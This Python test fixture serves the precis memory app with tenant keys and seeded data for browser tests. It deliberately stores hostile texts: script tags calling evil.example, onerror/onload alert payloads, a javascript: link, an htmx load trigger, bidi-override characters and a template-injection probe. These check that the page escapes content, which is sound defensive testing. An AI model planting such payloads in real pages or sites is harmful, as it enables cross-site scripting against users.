"""Serve precis for the browser's tests: once with keys and hostile texts, once without and with the demo's talk.

    python tests/page/serve.py node tests/page/flows.mjs

runs the command with PAGE_URL, PAGE_KEY, PAGE_OTHER_KEY and PAGE_DEMO_URL, and ends as it does.
"""

from __future__ import annotations

import asyncio
import os
import sys
import tempfile
from contextlib import AsyncExitStack
from datetime import date
from pathlib import Path

from precis.app import App
from precis.bootstrap import Runtime, open_runtime
from precis.demo import story_of
from precis.keys.tenants import DEFAULT_TENANT
from precis.rest.server import listening
from precis.settings import Settings

HOSTILE = (
    "<script>document.title = 'owned'; fetch('https://evil.example/')</script> The kettle is <b>copper</b>.",
    "<img src=x onerror=alert(1)><svg onload=alert(2)> \"'`> The kettle whistles. {{ 7 * 7 }}",
    "\u202eThe kettle is old.\u202d \u2067מה שלום הקומקום\u2069 </p></li></main><!--",
    "<a href='javascript:alert(3)' hx-get='https://evil.example/' hx-trigger='load'>the kettle leaks</a>",
    "Thekettle" + "boilsandboils" * 2_000,
    "The kettle came from a market in Porto.",
    "The kettle whistles <i>in F sharp</i> since May.",
    "هذه الغلاية قديمة جدا، واشتريتها من سوق المدينة القديمة.",
)


async def fill(app: App) -> None:
    """Everything that the page has a view of, in texts that mean ill."""
    await app.memories.add([
        {"id": f"h{at}", "user_id": "bo", "type": "fact", "key": "kettle" if " " in text else "boiling", "text": text,
         "metadata": {"speaker": "<u>Eve</u>"}, "created_at": f"2025-04-0{at + 1}T10:00:00Z"}
        for at, text in enumerate(HOSTILE)
    ])  # fmt: skip
    await app.memories.add([
        {"id": f"n{at}", "user_id": "bo", "memory_type": "episodic", "metadata": {"kind": "note"},
         "created_at": f"2024-03-0{at + 4}T10:00:00Z", "text": f"Bo walked {at + 3} miles along the dike."}
        for at in range(5)
    ])  # fmt: skip
    await app.memories.add([
        {"id": f"{name}{at}", "user_id": "bo", "type": "fact", "key": name, "text": f"{name} owns a {thing}."}
        for name in ("Quill", "Odile", "Tamsin") for at, thing in enumerate(("zeppelin", "bassoon", "marimba"))
    ])  # fmt: skip
    await app.memories.add([{"id": f"m{at}", "user_id": "many", "text": f"Gate {at} is green."} for at in range(60)])
    await app.rollups.summarize("bo", "weekly", day=date(2024, 3, 6))
    turns = [{"id": f"t{at}", "role": "user", "content": f"The {at}th ferry sails at {at}."} for at in range(24)]
    await app.conversations.turn("<b>ferry</b>", turns, user_id="bo")
    view = await app.views.create(name="<b>all of a person</b>", group_by=["user_id"], continuous=True)
    await app.views.run_partition(view.id, {"user_id": "many"})


async def fill_demo(app: App) -> None:
    """The conversation that `precis demo` brings."""
    await app.memories.add([dict(row) for row in story_of(None).rows], summarize="deferred")
    await app.summaries.refresh_all()


async def main(command: list[str]) -> int:
    """Fill, serve, and run the command."""
    async with AsyncExitStack() as stack:
        folder = Path(stack.enter_context(tempfile.TemporaryDirectory(prefix="precis-page-")))
        folder.chmod(0o755)

        async def begin(name: str) -> Runtime:
            return await stack.enter_async_context(open_runtime(Settings(data_dir=folder / name)))

        keyed, demo = await begin("keyed"), await begin("demo")
        keys = {}
        for tenant, name in (("first", "PAGE_KEY"), ("second", "PAGE_OTHER_KEY")):
            now = keyed.engine.clock()
            keys[name] = await keyed.store.tenants.create_key(tenant, name=tenant, now=now)
        await fill(keyed.app("first"))
        await keyed.app("second").memories.add([{"user_id": "siv", "text": "Siv keeps bees."}])
        await fill_demo(demo.app(DEFAULT_TENANT))
        urls = {
            "PAGE_URL": await stack.enter_async_context(listening(keyed)),
            "PAGE_DEMO_URL": await stack.enter_async_context(listening(demo)),
        }
        process = await asyncio.create_subprocess_exec(*command, env={**os.environ, **keys, **urls})
        return await process.wait()


if __name__ == "__main__":
    sys.exit(asyncio.run(main(sys.argv[1:])))
